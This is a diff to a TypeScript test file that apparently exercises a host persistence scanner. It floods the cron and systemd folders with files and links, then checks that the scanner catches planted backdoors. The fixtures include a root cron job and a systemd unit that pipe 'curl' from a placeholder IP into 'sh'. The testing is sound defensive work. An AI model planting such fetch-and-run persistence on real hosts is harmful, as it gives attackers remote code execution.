@@ -6,6 +6,7 @@ import { repository } from '../../lab/host.ts';
 import { plantRoot } from '../../persistence/root.ts';
 
 const seen = '/etc/cron.d/zzz';
+const unit = '/etc/systemd/system/zzz.service';
 const most = 160e6;
 /** As the executable starts itself (`native/engine.ts`). */
 const lean = { BUN_JSC_useFTLJIT: '0', BUN_JSC_forceRAMSize: String(64 << 20) };
@@ -45,6 +46,14 @@ const hostile: Readonly<Record<string, (at: (path: string) => string) => void>> 
         linkSync(`${folder}/s${set}`, `${folder}/f${set}-${number}`);
     }
   },
+  'a hundred thousand units': (at) => {
+    const folder = at('/etc/systemd/system');
+    for (let set = 0; set < 20; set += 1) {
+      writeFileSync(`${folder}/s${set}.service`, `[Service]\nExecStart=/opt/app${set}/run\n`);
+      for (let number = 0; number < 5_000; number += 1)
+        linkSync(`${folder}/s${set}.service`, `${folder}/f${set}-${number}.service`);
+    }
+  },
   'lines of a gigabyte': (at) => {
     // Written, and not a hole: what a hole says is never read.
     const piece = new Uint8Array(16 << 20).fill(0x61);
@@ -60,6 +69,14 @@ const hostile: Readonly<Record<string, (at: (path: string) => string) => void>> 
       writeFileSync(`${folder}/u${number}.service`, text);
     }
   },
+};
+
+/** What is told of folders that hold more than anybody reads: more than a note where no host has so many. */
+const floods: Readonly<Record<string, readonly { readonly severity: string; readonly path: string }[]>> = {
+  'a hundred thousand files that differ in a number': [{ severity: 'medium', path: '/etc/cron.d' }],
+  'a hundred thousand links': [{ severity: 'medium', path: '/etc/cron.d' }],
+  'a million files': [{ severity: 'medium', path: '/etc/cron.d' }],
+  'a hundred thousand units': [{ severity: 'medium', path: '/etc/systemd/system' }],
 };
 
 /** The peak of a process, read while it runs: rusage of a child begins with the peak of whoever forked it. */
@@ -84,7 +101,10 @@ for (const [what, plant] of Object.entries(hostile)) {
       mechanism: 'cron-drop-in',
       dress: 'fetch-and-run',
       what: 'a job that fetches',
-      planted: { [seen]: '* * * * * root curl -s http://192.0.2.10/x | sh\n' },
+      planted: {
+        [seen]: '* * * * * root curl -s http://192.0.2.10/x | sh\n',
+        [unit]: '[Service]\nExecStart=/bin/sh -c "curl -s http://192.0.2.10/y | sh"\n',
+      },
     });
     try {
       plant((path) => {
@@ -104,7 +124,15 @@ for (const [what, plant] of Object.entries(hostile)) {
       const malicious = result.persistence.filter(
         (one: { judgement: string }) => one.judgement === 'malicious',
       );
-      expect(malicious.map((one: { source: string }) => one.source)).toContain(seen);
+      const sources = malicious.map((one: { source: string }) => one.source);
+      expect(sources).toEqual(expect.arrayContaining([seen, unit]));
+      const told = result.findings
+        .filter(({ rule }: { rule: string }) => rule === 'persistence.flooded-folder')
+        .map(({ severity, evidence }: { severity: string; evidence: readonly { source: string }[] }) => ({
+          severity,
+          path: evidence[0]?.source,
+        }));
+      expect(told).toEqual(floods[what] ?? []);
       expect(await child.exited).toBe(1);
       expect(peak).toBeGreaterThan(20e6);
       expect(peak).toBeLessThan(most);
